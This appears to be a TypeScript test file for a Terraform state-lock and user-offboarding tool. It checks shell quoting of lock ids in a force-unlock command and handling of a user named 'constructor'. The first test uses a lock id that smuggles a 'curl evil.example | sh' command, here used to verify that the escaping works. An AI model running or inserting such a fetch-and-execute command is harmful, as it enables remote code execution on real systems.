import { planToProve } from "../../src/leaving/pending/against-plan";
import { stateLocked } from "../../src/terraform/state-lock";
import { planPeople } from "./plans";

test("the id of a lock is a word of the command that ends it, whatever is in it", () => {
  const lock = { id: "x'; curl evil.example | sh; '", who: "root@vm", since: "2026-11-22" };
  expect(stateLocked(lock, "terraform", "/srv/my stacks/users", 120).message).toContain(
    `terraform -chdir='/srv/my stacks/users' force-unlock 'x'\\''; curl evil.example | sh; '\\''', then`,
  );
});

test("what somebody held is told of a user whose name every object has", () => {
  const leavers = [{ name: "constructor", address: "aws_iam_user.constructor", forceDestroy: false }];
  const plan = planToProve({ stayers: [], held: {} }, { leavers, devices: [] }, planPeople({}));
  expect(plan.leavers.map(({ name }) => name)).toEqual(["constructor"]);
});
